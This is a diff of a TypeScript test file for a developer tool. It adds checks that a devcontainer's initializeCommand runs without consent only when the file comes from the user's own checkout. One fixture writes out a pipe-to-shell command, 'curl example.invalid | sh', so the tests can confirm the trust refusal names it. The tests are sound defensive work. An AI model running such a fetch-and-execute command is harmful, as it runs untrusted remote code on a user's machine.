@@ -1,10 +1,11 @@
 // A workspace's devcontainer.json is the copy its create read (core/devcontainer.ts): the loader uses
 // the copy over the tree's file, and a start says when the tree's is another one and keeps the copy.
+// Its initializeCommand runs without consent only when it is the one in the user's checkout.
 import { describe, expect, test } from "bun:test";
 import { mkdirSync } from "node:fs";
 import { join } from "node:path";
 import { readDevcontainer, loadProjectConfig } from "../../src/config/project.ts";
-import { keptDevcontainer, readProjectChoice, writeProjectChoice } from "../../src/core/devcontainer.ts";
+import { keptDevcontainer, ownDevcontainer, readProjectChoice, requireTrust, writeProjectChoice } from "../../src/core/devcontainer.ts";
 import { tempDir, writeFiles } from "../helpers/fixtures.ts";
 
 const OWN = `{ "image": "debian:bookworm-slim", "initializeCommand": "echo own" }`;
@@ -80,5 +81,30 @@ describe("keptDevcontainer, before a start", () => {
     const { tree, dir } = layout(t.path, { [FILE]: OWN, ".devcontainer/other/devcontainer.json": WRITTEN });
     writeProjectChoice(dir, { trusted: true, devcontainerCopy: { file: FILE, text: OWN } });
     expect(keptDevcontainer(dir, tree)).toContain(`${FILE} is not the one`);
+  });
+});
+
+describe("ownDevcontainer, at create", () => {
+  test("the same file in the checkout: the user's own; none at all: nothing to run", async () => {
+    await using t = tempDir("dck");
+    const { tree: checkout } = layout(t.path, { [FILE]: OWN });
+    expect(ownDevcontainer({ file: FILE, text: OWN }, checkout, false)).toEqual({ own: true });
+    expect(ownDevcontainer(null, checkout, true)).toEqual({ own: true });
+  });
+
+  test("another text, none in the checkout, or a checkout a workspace mounts: not, and why", async () => {
+    await using t = tempDir("dck");
+    const { tree: checkout } = layout(t.path, { [FILE]: OWN });
+    const { tree: bare } = layout(join(t.path, "b"), {});
+    expect(ownDevcontainer({ file: FILE, text: WRITTEN }, checkout, false)).toEqual({ own: false, why: `it is not the ${FILE} of ${checkout} (the branch's may come from a workspace)` });
+    expect(ownDevcontainer({ file: FILE, text: OWN }, bare, false)).toMatchObject({ own: false });
+    expect(ownDevcontainer({ file: FILE, text: OWN }, checkout, true)).toEqual({ own: false, why: `a workspace mounts ${checkout}, so it may have written it` });
+  });
+
+  test("the refusal names the command and why; consent or nothing to run passes", () => {
+    const steps = [{ name: "initialize", command: "curl example.invalid | sh", env: {}, timeoutSeconds: 60 }];
+    expect(() => requireTrust(steps, FILE, false, "the repository was cloned")).toThrow(`${FILE} runs a command on this machine (initializeCommand), and the repository was cloned: curl example.invalid | sh`);
+    expect(() => requireTrust(steps, FILE, true, "the repository was cloned")).not.toThrow();
+    expect(() => requireTrust([], FILE, false)).not.toThrow();
   });
 });
